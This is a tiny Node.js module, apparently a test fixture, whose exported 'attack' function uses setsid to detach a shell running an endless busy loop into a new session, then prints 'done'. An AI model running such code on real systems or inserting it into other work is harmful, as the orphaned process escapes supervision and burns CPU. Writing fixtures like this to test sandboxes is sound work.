// Leaves a busy process in a new session.
const { spawnSync } = require('node:child_process')

exports.attack = () => {
  spawnSync('/usr/bin/setsid', ['-f', '/bin/sh', '-c', 'while :; do :; done'], { stdio: 'inherit' })
  console.log('done')
}
